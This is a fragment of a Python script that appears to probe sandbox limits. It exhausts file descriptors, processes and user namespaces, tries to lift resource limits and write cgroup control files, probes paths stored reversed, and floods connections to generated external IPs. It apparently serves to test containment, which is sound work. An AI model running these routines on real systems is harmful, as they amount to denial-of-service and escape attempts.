            s.setblocking(False)
            attempt(s.connect, (dst or f"45.{n >> 16 & 255}.{n >> 8 & 255}."
                                     f"{n & 255}", 1024 + n % 60000))
            busy = n % 20 == 0
        if busy:
            time.sleep(0.02)


# ---- what a user has only so much of -------------------------------------------------------

def try_hoard(later=True):
    """Descriptors in flight over socketpairs of its own: as many as go."""
    null = os.open("/dev/null", os.O_RDONLY)
    pairs, count = [], 0
    while True:
        try:
            if not pairs or count % 2000 == 0:
                pairs.append(socket.socketpair(socket.AF_UNIX,
                                               socket.SOCK_DGRAM))
                pairs[-1][0].setblocking(False)
            socket.send_fds(pairs[-1][0], [b"x"], [null] * 250)
            count += 250
        except BlockingIOError:
            pairs.append(socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM))
            pairs[-1][0].setblocking(False)
        except OSError as error:
            say({"stopped": errno.errorcode.get(error.errno), "count": count})
            break
    attempt(os.getpid)
    wait()


def try_processes():
    """As many as go; they sleep."""
    count = 0
    while True:
        try:
            if os.fork() == 0:
                time.sleep(600)
                os._exit(0)
            count += 1
        except OSError:
            break
    say({"count": count})
    attempt(os.getpid)
    wait()


def try_namespaces():
    """As many user namespaces as go, each held by a descriptor."""
    held = []
    while True:
        r, w = os.pipe()
        if (pid := os.fork()) == 0:
            try:
                checked(libc.unshare(NEWUSER))
                os.write(w, b"+")
                time.sleep(600)
            except OSError:
                os.write(w, b"-")
            os._exit(0)
        os.close(w)
        good = os.read(r, 1) == b"+"
        os.close(r)
        held.append(pid)
        if not good or len(held) > 5000:
            break
    say({"count": len(held)})
    attempt(os.getpid)
    wait()


# ---- mounts and limits --------------------------------------------------------------------

def try_look(backwards):
    """stat, listing and opening, each by a child that has a second for it. The
    paths are written backwards: `run` itself looks at what its words name."""
    for path in [p[::-1] for p in backwards]:
        for way in (os.stat, os.listdir, os.chdir,
                    lambda p: os.close(os.open(p, os.O_RDONLY))):
            if (pid := os.fork()) == 0:
                attempt(way, path)
                os._exit(0)
            globals()["tried"] += 1
            end = time.monotonic() + 1
            while os.waitpid(pid, os.WNOHANG) == (0, 0):
                if time.monotonic() > end:
                    os.kill(pid, 9)
                    os.waitpid(pid, 0)
                    break
                time.sleep(0.02)


def try_limits():
    import resource
    for what in (resource.RLIMIT_CORE, resource.RLIMIT_NOFILE,
                 resource.RLIMIT_NPROC):
        attempt(resource.setrlimit, what, (-1, -1))
    say({"limits": {
        "core": resource.getrlimit(resource.RLIMIT_CORE)[1],
        "nofile": resource.getrlimit(resource.RLIMIT_NOFILE)[1],
        "nproc": resource.getrlimit(resource.RLIMIT_NPROC)[1],
        "personality": call(135, 0xffffffff)}})


def try_cgroups():
    for top, _, names in os.walk("/sys/fs/cgroup"):
        for name in names:
            if name in ("cgroup.freeze", "cgroup.kill", "cgroup.procs",
                        "memory.max", "pids.max"):
                path = os.path.join(top, name)
                attempt(lambda p=path: os.close(os.open(p, os.O_WRONLY)),
                        what=path)
    attempt(os.stat, "/")


def main():
    name, args = sys.argv[1], json.loads(sys.argv[2] if len(sys.argv) > 2
                                         else "{}")
    globals()["try_" + name](**args)
    say({"gained": gains, "tried": tried})


if __name__ == "__main__":
    main()
